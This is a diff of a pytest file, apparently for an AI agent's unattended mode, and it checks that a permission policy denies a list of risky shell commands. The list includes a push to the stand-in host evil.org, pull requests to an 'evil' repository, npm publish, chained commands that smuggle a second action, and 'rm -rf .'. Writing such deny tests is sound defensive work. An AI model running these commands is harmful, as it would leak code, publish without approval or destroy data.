@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from tests.cli.place import SAY, Ended, Place, is_one_line
-from tests.cli.test_agreeing import bash, git, prepare
+from tests.cli.test_agreeing import bash, git, keep_some, prepare
 from tests.cli.test_approval import show
 from tests.cli.test_config import user_settings
 from tests.cli.test_on_ask import anywhere
@@ -52,35 +52,37 @@ def test_overnight_pushes_side_branches_and_opens_pull_requests(repo: Place, com
 
 @pytest.mark.parametrize(
     "command",
-    [
-        "git push origin main",
-        "git push origin fix:main",
-        "git push origin HEAD:refs/heads/main",
-        "git push origin fix main",
-        "git push origin --all",
-        "git push origin --tags",
-        "git push origin HEAD:refs/tags/v1",
-        "git push https://evil.org/x fix",
-        "git push --force-with-lease origin fix",
-        "git push origin :old",
-        "git push origin $BRANCH",
-        "git push origin fix && npm publish",
-        "git checkout main && git push",
-        "git checkout -b new && git push",
-        "git checkout -b new && git tag new && git push origin new",
-        "git checkout -b new && git push origin other",
-        "echo ref: refs/heads/main > .git/HEAD; git push origin HEAD",
-        "git push origin HEAD:heads/main",
-        "git push origin fix --tag",
-        "git push --rece=./x origin fix",
-        "git push -o merge_request.merge_when_pipeline_succeeds origin fix",
-        "glab mr create --target-project evil/tool --fill",
-        "gh pr create --repo evil/tool --fill",
-        "gh pr merge 3",
-        "npm publish",
-        'rm -rf "$DIR"',
-        "rm -rf .",
-    ],
+    keep_some(
+        [
+            "git push origin main",
+            "git push origin fix:main",
+            "git push origin HEAD:refs/heads/main",
+            "git push origin fix main",
+            "git push origin --all",
+            "git push origin --tags",
+            "git push origin HEAD:refs/tags/v1",
+            "git push https://evil.org/x fix",
+            "git push --force-with-lease origin fix",
+            "git push origin :old",
+            "git push origin $BRANCH",
+            "git push origin fix && npm publish",
+            "git checkout main && git push",
+            "git checkout -b new && git push",
+            "git checkout -b new && git tag new && git push origin new",
+            "git checkout -b new && git push origin other",
+            "echo ref: refs/heads/main > .git/HEAD; git push origin HEAD",
+            "git push origin HEAD:heads/main",
+            "git push origin fix --tag",
+            "git push --rece=./x origin fix",
+            "git push -o merge_request.merge_when_pipeline_succeeds origin fix",
+            "glab mr create --target-project evil/tool --fill",
+            "gh pr create --repo evil/tool --fill",
+            "gh pr merge 3",
+            "npm publish",
+            'rm -rf "$DIR"',
+            "rm -rf .",
+        ]
+    ),
 )
 def test_overnight_denies_the_rest_and_continues(repo: Place, command: str) -> None:
     assert (play(repo, command).code, decision(repo)) == (0, "deny")
